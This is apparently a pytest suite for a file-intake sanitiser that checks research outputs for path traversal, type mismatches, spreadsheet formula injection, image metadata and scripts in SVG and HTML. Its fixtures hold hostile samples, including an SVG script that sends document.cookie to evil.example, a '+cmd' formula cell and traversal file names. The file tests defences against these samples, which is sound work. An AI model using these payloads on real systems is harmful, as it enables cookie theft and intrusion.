"""File intake for output requests: each refusal, and each sanitising step, on real bytes."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
import zipfile

import pytest
from PIL import Image, PngImagePlugin

from enclave.airlock.files import (
    check_request_limits,
    detect_kind,
    intake,
    neutralise_cell,
    validate_file_name,
)
from enclave.domain.errors import InvalidInput, PayloadTooLarge
from enclave.domain.outputs.files import FileKind, Limits


def png_bytes(*, text: dict[str, str] | None = None, exif: bool = False, mode: str = "RGB") -> bytes:
    img = Image.new(mode, (4, 3), "red" if mode != "P" else 1)
    info = PngImagePlugin.PngInfo()
    for key, value in (text or {}).items():
        info.add_text(key, value)
    out = io.BytesIO()
    kwargs: dict[str, object] = {"pnginfo": info}
    if exif:
        e = Image.Exif()
        e[0x010F] = "PhoneMaker"
        kwargs["exif"] = e.tobytes()
    img.save(out, "PNG", **kwargs)
    return out.getvalue()


def jpeg_bytes(*, gps: bool = False, orientation: int = 1, comment: bytes = b"") -> bytes:
    img = Image.new("RGB", (6, 4), "blue")
    exif = Image.Exif()
    exif[0x0112] = orientation
    if gps:
        exif[0x8825] = {1: "N", 2: (48.0, 51.0, 24.0)}
    out = io.BytesIO()
    img.save(out, "JPEG", exif=exif.tobytes(), comment=comment)
    return out.getvalue()


# --- names ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["table.csv", "figures/age by sex (2020).png", "données.tsv", "a/b/c/d.json", "Report-v2.1.md", "x.JPEG"],
)
def test_ordinary_names_pass(name: str) -> None:
    """Plain relative names with folders, accents and punctuation researchers use are accepted."""
    clean, kind = validate_file_name(name)
    assert clean == name
    assert kind in set(FileKind)


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("../secret.csv", r"\. or \.\."),
        ("a/../../etc/passwd.csv", r"\. or \.\."),
        ("/etc/table.csv", "absolute path"),
        ("C:table.csv", "absolute path"),
        ("dir\\table.csv", "backslash"),
        ("a//b.csv", "empty folder name"),
        (".hidden.csv", "hidden"),
        ("-rf.csv", "option-like"),
        ("folder /x.csv", "begins or ends with a space"),
        ("x.csv.", "ends with a dot"),
        ("evil\u202egpj.csv", "control or invisible"),
        ("nul\x00.csv", "control or invisible"),
        ("tab;le.csv", "contains ;"),
        ("con.csv", "reserved device name"),
        ("a/b/c/d/e.csv", "deeper than 4"),
        ("outputs.zip", "archives are not accepted"),
        ("outputs.tar.gz", "archives are not accepted"),
        ("model.pkl", r"\.pkl files are not accepted"),
        ("README", "without an extension"),
        ("", "needs a name"),
        ("x" * 300 + ".csv", "limited to 200 characters"),
    ],
)
def test_odd_names_are_refused(name: str, message: str) -> None:
    """Traversal, absolute paths, invisible characters, archives and unknown types are refused."""
    with pytest.raises(InvalidInput, match=message):
        validate_file_name(name)


def test_names_are_normalised_to_nfc_and_the_change_recorded() -> None:
    """A decomposed accent becomes the composed one, so two spellings cannot make two files."""
    result = intake("donne\u0301es.txt", b"hello")
    assert result.name == "données.txt"
    assert "normalised the file name to Unicode NFC" in result.changes


# --- request limits -------------------------------------------------------------------------------


def test_request_limits() -> None:
    """Too many files, too many bytes, or names that collide ignoring case are refused."""
    limits = Limits(max_files=2, max_request_bytes=100)
    check_request_limits([("a.csv", 50), ("b.csv", 50)], limits=limits)
    with pytest.raises(InvalidInput, match="at most 2 files"):
        check_request_limits([("a.csv", 1), ("b.csv", 1), ("c.csv", 1)], limits=limits)
    with pytest.raises(PayloadTooLarge, match="add up to 101 bytes"):
        check_request_limits([("a.csv", 51), ("b.csv", 50)], limits=limits)
    with pytest.raises(InvalidInput, match=r"named 'a\.csv'"):
        check_request_limits([("a.csv", 1), ("A.CSV", 1)], limits=limits)


# --- size, type and archives ----------------------------------------------------------------------


def test_oversized_and_empty_files_are_refused() -> None:
    with pytest.raises(PayloadTooLarge, match="limited to 10 bytes"):
        intake("t.txt", b"x" * 11, limits=Limits(max_file_bytes=10))
    with pytest.raises(InvalidInput, match="is empty"):
        intake("t.txt", b"")


def test_archives_are_refused_whatever_their_name() -> None:
    """A ZIP, gzip or tar under an allowed name is still an archive."""
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as z:
        z.writestr("inner.csv", "a,b\n1,2\n")
    tarred = io.BytesIO()
    with tarfile.open(fileobj=tarred, mode="w") as t:
        info = tarfile.TarInfo("inner.csv")
        info.size = 4
        t.addfile(info, io.BytesIO(b"a,b\n"))
    for content in (zipped.getvalue(), gzip.compress(b"a,b\n1,2\n"), tarred.getvalue()):
        with pytest.raises(InvalidInput, match="archives are not accepted"):
            intake("table.csv", content)


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("figure.png", jpeg_bytes(), "named as png but its content is a JPEG image"),
        ("table.csv", png_bytes(), "named as csv but its content is a PNG image"),
        ("photo.jpg", b"not really a jpeg", "named as a JPEG image but is not one"),
        ("notes.txt", b"%PDF-1.7 ...", "content is a PDF document"),
        ("table.csv", b"<!DOCTYPE html><html><body>1</body></html>", "HTML/XML markup"),
        ("data.json", b'<svg xmlns="http://www.w3.org/2000/svg"/>', "HTML/XML markup"),
        ("table.csv", b'{"a": [1, 2]}', "its content is JSON"),
        ("page.html", b'<svg xmlns="http://www.w3.org/2000/svg"></svg>', "content is SVG"),
        ("page.html", b"just words", "contains no HTML markup"),
        ("figure.svg", b"<html><body>x</body></html>", "root element is not an SVG"),
        ("figure.png", png_bytes()[:40], "not a valid PNG image"),
    ],
)
def test_a_file_that_lies_about_its_type_is_refused(name: str, content: bytes, message: str) -> None:
    with pytest.raises(InvalidInput, match=message):
        intake(name, content)


def test_text_must_be_utf8_without_control_characters() -> None:
    """Latin-1 bytes and terminal escape sequences are refused; a BOM is removed and recorded."""
    with pytest.raises(InvalidInput, match="not UTF-8 text"):
        intake("t.csv", "année,n\n2020,12\n".encode("latin-1"))
    with pytest.raises(InvalidInput, match="control character"):
        intake("t.txt", b"ok \x1b[31m red")
    result = intake("t.txt", "\ufeffhello".encode())
    assert result.content == b"hello"
    assert "removed the UTF-8 byte order mark" in result.changes


def test_scripts_in_text_and_markdown_are_refused_but_plain_markdown_passes() -> None:
    with pytest.raises(InvalidInput, match="script"):
        intake("notes.md", b"# Results\n<script>alert(1)</script>\n")
    with pytest.raises(InvalidInput, match="javascript: link"):
        intake("notes.md", b"[click](javascript:alert(1))")
    md = b"# Results\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    result = intake("notes.md", md)
    assert result.content == md
    assert result.changes == ()
    assert result.kind is FileKind.MARKDOWN


def test_json_must_parse_strictly() -> None:
    with pytest.raises(InvalidInput, match="not valid JSON \\(line 1"):
        intake("d.json", b'{"a": }')
    with pytest.raises(InvalidInput, match="NaN is not valid JSON"):
        intake("d.json", b'{"a": NaN}')
    with pytest.raises(InvalidInput, match="nested too deeply"):
        intake("d.json", b"[" * 100_000 + b"]" * 100_000)
    assert intake("d.json", b'{"a": [1, 2.5]}').media_type == "application/json"


# --- tables ---------------------------------------------------------------------------------------


def test_ragged_and_malformed_tables_are_refused() -> None:
    with pytest.raises(InvalidInput, match="row 3 has 3 fields but the header has 2"):
        intake("t.csv", b"a,b\n1,2\n3,4,5\n")
    with pytest.raises(InvalidInput, match="row 2 has 0 fields"):
        intake("t.csv", b"a,b\n\n1,2\n")
    with pytest.raises(InvalidInput, match="not a well-formed CSV"):
        intake("t.csv", b'a,b\n"1,2\n')
    with pytest.raises(InvalidInput, match="looks semicolon-separated"):
        intake("t.csv", b"a;b\n1;2\n")
    with pytest.raises(InvalidInput, match="looks comma-separated but is named as tsv"):
        intake("t.tsv", b"a,b\n1,2\n")
    with pytest.raises(InvalidInput, match="limited to 3"):
        intake("t.csv", b"a,b,c,d\n1,2,3,4\n", limits=Limits(max_table_columns=3))


def test_a_clean_table_is_stored_byte_for_byte() -> None:
    """Nothing to neutralise: the researcher's bytes are kept (a trailing blank line is fine)."""
    content = b"sex,n,mean\r\nF,120,-3.5\r\nM,130,+2e-3\r\n\r\n"
    result = intake("t.csv", content)
    assert result.content == content
    assert result.changes == ()
    assert result.sha256 == result.original_sha256
    assert result.to_dict()["kind"] == "csv"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12", "-12"),
        ("+3.5", "+3.5"),
        ("-1e-3", "-1e-3"),
        ("=", "'="),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formula_cells_are_neutralised_but_numbers_are_not(cell: str, expected: str) -> None:
    assert neutralise_cell(cell) == expected


def test_formula_injection_is_neutralised_in_csv_and_tsv() -> None:
    """The rewritten table keeps its shape; the change is recorded with a count."""
    result = intake("t.csv", b'label,n\n=HYPERLINK("http://x"),12\n-5,-5\n')
    assert result.content == b'label,n\n"\'=HYPERLINK(""http://x"")",12\n-5,-5\n'
    assert result.changes == (
        "neutralised 1 cell(s) that a spreadsheet would run as a formula (prefixed with ')",
    )
    tsv = intake("t.tsv", b"a\tb\n@x\t1\n")
    assert tsv.content == b"a\tb\n'@x\t1\n"
    assert tsv.sha256 != tsv.original_sha256


# --- images ---------------------------------------------------------------------------------------


def test_png_text_chunks_and_exif_are_stripped() -> None:
    dirty = png_bytes(text={"Author": "Dr Smith", "Comment": "patient 123"}, exif=True)
    with Image.open(io.BytesIO(dirty)) as before:
        assert {"Author", "Comment"} <= set(before.info)
    result = intake("figure.png", dirty)
    with Image.open(io.BytesIO(result.content)) as after:
        assert after.format == "PNG"
        assert after.size == (4, 3)
        assert not after.getexif()
        assert not {"Author", "Comment", "exif"} & set(after.info)
        assert after.getpixel((0, 0)) == (255, 0, 0)
    assert b"Dr Smith" not in result.content
    assert "removed: Author, Comment, exif" in result.changes[-1]


def test_clean_and_palette_pngs_are_re_encoded() -> None:
    """Even without metadata the image is rebuilt from pixels; palette images become RGB."""
    result = intake("figure.png", png_bytes(mode="P"))
    assert result.changes == ("re-encoded the image from its pixels (it carried no metadata)",)
    with Image.open(io.BytesIO(result.content)) as img:
        assert img.mode == "RGB"


def test_jpeg_gps_and_comments_are_stripped_and_orientation_applied() -> None:
    dirty = jpeg_bytes(gps=True, orientation=6, comment=b"taken at the clinic")
    result = intake("photo.jpg", dirty)
    with Image.open(io.BytesIO(result.content)) as after:
        assert after.format == "JPEG"
        assert not after.getexif()
        assert "comment" not in after.info
        assert after.size == (4, 6)  # rotated by the orientation before it was dropped
    assert b"taken at the clinic" not in result.content
    assert "applied the EXIF orientation to the pixels" in result.changes


def test_huge_and_animated_images_are_refused() -> None:
    with pytest.raises(InvalidInput, match="limited to 10 pixels"):
        intake("figure.png", png_bytes(), limits=Limits(max_image_pixels=10))
    frames = [Image.new("RGB", (2, 2), c) for c in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    with pytest.raises(InvalidInput, match="animated"):
        intake("anim.png", out.getvalue())


# --- SVG and HTML ---------------------------------------------------------------------------------

HOSTILE_SVG = b"""<?xml version="1.0"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 10 10" onload="steal()">
  <metadata><author>Dr Smith</author></metadata>
  <script>fetch('https://evil.example/'+document.cookie)</script>
  <style>@import url(https://evil.example/a.css);</style>
  <defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs>
  <a href="https://evil.example/"><rect id="r" width="5" height="5" fill="url(#g)" inkscape:label="bar"/></a>
  <use xlink:href="#r" x="5"/>
  <use href="https://evil.example/sprite.svg#x"/>
  <image href="https://evil.example/pixel.png" width="1" height="1"/>
  <foreignObject><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>
  <circle r="1" style="fill: url(https://evil.example/p)" onclick="x()"/>
  <text xml:space="preserve">Age &amp; sex</text>
</svg>"""


def test_svg_keeps_the_drawing_and_loses_scripts_handlers_and_external_references() -> None:
    result = intake("figure.svg", HOSTILE_SVG)
    out = result.content.decode()
    for gone in (
        "script",
        "onload",
        "onclick",
        "evil.example",
        "metadata",
        "Dr Smith",
        "inkscape",
        "foreign",
    ):
        assert gone not in out, gone
    for kept in ('viewBox="0 0 10 10"', 'fill="url(#g)"', 'href="#r"', "<rect", "Age &amp; sex", "xml:space"):
        assert kept in out, kept
    assert out.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<svg ')
    assert 'xmlns="http://www.w3.org/2000/svg"' in out
    assert detect_kind(result.content) is FileKind.SVG
    assert "event handler attributes" in result.changes[1]
    assert "external references" in result.changes[1]


def test_svg_text_around_removed_elements_is_kept() -> None:
    """Unwrapping a link or dropping a script keeps the words of a label around it."""
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>see <a href="https://x.example">this</a> note'
        b"<script>x()</script> end</text></svg>"
    )
    out = intake("f.svg", svg).content.decode()
    assert "<text>see this note end</text>" in out


def test_svg_entities_and_malformed_xml_are_refused() -> None:
    bomb = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>'
    with pytest.raises(InvalidInput, match="declares XML entities"):
        intake("f.svg", bomb)
    with pytest.raises(InvalidInput, match="not well-formed SVG"):
        intake("f.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><g></svg>')
    with pytest.raises(InvalidInput, match="with xmlns"):
        intake("f.svg", b"<svg><rect/></svg>")


def test_html_keeps_tables_and_embedded_images_and_loses_scripts_and_external_references() -> None:
    embedded = "data:image/png;base64,iVBORw0KGgo="
    html = f"""<!DOCTYPE html><html><head><title>Report</title>
    <script>alert(1)</script><link rel="stylesheet" href="https://cdn.example/x.css"></head>
    <body onload="x()"><h1 onclick="y()">Results</h1><a href="https://evil.example">more</a>
    <a href="#t1">table</a><img src="https://evil.example/track.gif"><img src="{embedded}" alt="fig">
    <iframe src="https://evil.example"></iframe><form action="https://evil.example"><input></form>
    <table class="dataframe" id="t1"><tr><th>sex</th><th>n</th></tr><tr><td>F</td><td>120</td></tr></table>
    </body></html>""".encode()
    result = intake("report.html", html)
    out = result.content.decode()
    for gone in ("<script", "alert", "onload", "onclick", "evil.example", "cdn.example", "<iframe", "<form"):
        assert gone not in out, gone
    for kept in ("<h1>Results</h1>", 'href="#t1"', f'src="{embedded}"', '<table class="dataframe" id="t1">'):
        assert kept in out, kept
    assert result.changes[1] == "removed scripts, event handler attributes, external references"
    assert detect_kind(result.content) is FileKind.HTML
    assert intake("plain.html", b"<p>Hello</p>").changes == (
        "rewrote the HTML through an allowlist: only text formatting, tables and embedded images kept",
    )


# --- detection ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (png_bytes(), FileKind.PNG),
        (jpeg_bytes(), FileKind.JPEG),
        (b"a,b\n1,2\n", FileKind.CSV),
        (b"a\tb\n1\t2\n", FileKind.TSV),
        (json.dumps({"a": 1}).encode(), FileKind.JSON),
        (b'<svg xmlns="http://www.w3.org/2000/svg"/>', FileKind.SVG),
        (b"<!doctype html><p>x</p>", FileKind.HTML),
        (b"just some words", FileKind.TEXT),
        (b"\xff\xfe\x00bad", None),
        (b"GIF89a....", None),
    ],
)
def test_detect_kind_from_content_alone(content: bytes, kind: FileKind | None) -> None:
    assert detect_kind(content) is kind
